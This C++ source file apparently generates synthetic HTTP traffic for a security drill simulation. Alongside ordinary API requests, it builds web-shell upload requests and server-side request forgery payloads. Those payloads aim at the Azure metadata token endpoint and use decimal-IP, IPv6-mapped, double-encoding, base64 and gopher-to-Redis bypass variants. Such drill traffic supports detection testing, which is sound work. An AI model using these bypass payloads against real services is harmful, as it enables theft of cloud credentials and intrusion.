#include "drill/requests.h"

#include <fmt/format.h>

#include "base/encoding.h"

namespace egret::drill {
namespace {

std::string percent(std::string_view text) {
  std::string out;
  for (const char c : text) {
    if (std::isalnum(static_cast<unsigned char>(c)) || c == '-' || c == '_' || c == '.' || c == '~')
      out += c;
    else
      out += fmt::format("%{:02X}", static_cast<unsigned char>(c));
  }
  return out;
}

}  // namespace

Request request_of(const World& world, const Cluster& c, const Workload& x, const Inbound& q) {
  constexpr std::string_view kPaths[] = {"/api/v1/items?page=2",  "/healthz",      "/api/v1/items/{}", "/api/v2/{}/status",
                                         "/api/v1/search?q=blue", "/metrics",      "/api/v1/users/me", "/api/v1/{}/confirm",
                                         "/static/app.js",        "/api/v1/quote", "/api/v1/{}/lines", "/"};
  Request r;
  r.host = fmt::format("{}.{}", x.name, world.domain);
  r.agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36";
  if (q.shell) {  // a page that was put where pictures are
    r.method = "POST";
    r.target = fmt::format("/uploads/{}.{}", Random(world.seed).fork("shell " + x.name).hex(8),
                           x.language == "dotnet"   ? "aspx"
                           : x.language == "java"   ? "jsp"
                           : x.language == "python" ? "py"
                                                    : "php");
    r.action = r.method + ' ' + r.target;
    return r;
  }
  if (!q.ssrf) {
    r.method = q.path % 4 == 3 ? "POST" : "GET";
    r.target = fmt::format(fmt::runtime(kPaths[q.path % 12]), q.at / kSecond % 100000);
    r.action = fmt::format("{} {}", r.method, q.path % 12 == 1 ? "Health/Get" : "Items/Get");
    return r;
  }
  const std::string out = fmt::format("https://{}/u", world.endpoints[world.target].name);
  const std::string metadata =
      "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net";
  r.method = "GET";
  r.agent = "python-requests/2.31.0";
  r.action = "GET Receipts/Preview";
  r.made = q.path % 2 == 0 ? metadata : out;
  switch (q.path % 6) {
    case 0: r.target = "/api/v1/receipts/preview?source=" + percent(metadata); break;
    case 1: r.target = "/api/v1/receipts/preview?source=" + percent(percent(out)); break;
    case 2:
      r.target = "/api/v1/receipts/preview?source=" +
                 percent("http://2852039166/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net");
      break;
    case 3:
      r.target = "/api/v1/receipts/preview?source=" + percent(out) + "&callback=" + percent("http://[::ffff:169.254.169.254]/");
      break;
    case 4: r.target = "/api/v1/receipts/preview?source=" + percent("base64:" + base64(metadata)); break;
    default:
      r.target = "/api/v1/receipts/preview?source=" + percent("gopher://127.0.0.1:6379/_" + percent("SAVE\r\n")) + "&to=" + percent(out);
  }
  (void)c;
  return r;
}

}  // namespace egret::drill
